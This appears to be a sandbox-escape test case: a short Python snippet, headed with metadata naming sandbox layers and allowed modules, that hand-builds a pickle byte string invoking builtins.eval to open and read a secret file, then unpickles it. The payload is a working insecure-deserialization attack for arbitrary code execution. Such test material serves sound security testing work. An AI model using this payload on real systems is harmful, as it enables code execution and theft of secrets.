# class: eval-like library code
# technique: an unpickler calls what the bytes name
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: codecs, importlib, inspect, io, linecache, pathlib, pickle, timeit, uuid
# witness: secret
host = _items[0]["json"]
import pickle
code = b"cbuiltins\neval\n(Vopen('" + host["secret"].encode() + b"').read()\ntR."
return [{"json": {"reached": pickle.loads(code)}}]
